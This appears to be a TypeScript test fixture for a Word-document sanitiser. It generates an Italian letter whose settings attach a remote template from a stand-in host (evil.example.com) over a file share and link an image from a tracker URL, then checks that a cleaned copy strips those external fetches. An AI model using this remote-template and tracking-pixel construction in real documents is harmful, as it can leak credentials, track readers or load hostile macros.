// A letter as Word gives it (flat OPC) with an attached template on a share and a picture linked from a
// web server: opening it would fetch both. An embedded picture and a hyperlink, which fetch nothing, stay.
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
export const TEMPLATE_URL = 'file://evil.example.com/share/Normal.dotm';
export const IMAGE_URL = 'https://tracker.example.com/pixel.png';

function picture(attr: string) {
  return `<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attr}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;
}

/** `text` goes in the first paragraph, so that each use can be told apart. */
export function unsafeLetter(text = 'Gentile cliente,'): string {
  return `<?xml version="1.0" standalone="yes"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">
<pkg:part pkg:name="/_rels/.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/_rels/document.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="${REL}/settings" Target="settings.xml"/><Relationship Id="rId3" Type="${REL}/image" Target="${IMAGE_URL}" TargetMode="External"/><Relationship Id="rId4" Type="${REL}/image" Target="media/image1.png"/><Relationship Id="rId5" Type="${REL}/hyperlink" Target="https://www.example.com/" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/_rels/settings.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="${TEMPLATE_URL}" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/settings.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"><pkg:xmlData><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="708"/></w:settings></pkg:xmlData></pkg:part>
<pkg:part pkg:name="/word/media/image1.png" pkg:contentType="image/png"><pkg:binaryData>${PNG}</pkg:binaryData></pkg:part>
<pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"><pkg:xmlData><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p><w:p>${picture('r:link="rId3"')}${picture('r:embed="rId4"')}<w:hyperlink r:id="rId5"><w:r><w:t>sito</w:t></w:r></w:hyperlink></w:p><w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document></pkg:xmlData></pkg:part>
</pkg:package>`;
}

/** The letter keeps its text, its embedded picture and its hyperlink, and nothing Word would fetch. */
export function isSafeCopy(stored: string | undefined, text = 'Gentile cliente,'): boolean {
  return (
    stored !== undefined &&
    stored.includes(text) &&
    stored.includes('r:embed="rId4"') &&
    stored.includes('https://www.example.com/') &&
    !stored.includes(TEMPLATE_URL) &&
    !stored.includes(IMAGE_URL) &&
    !stored.includes('attachedTemplate') &&
    !stored.includes('r:link=')
  );
}
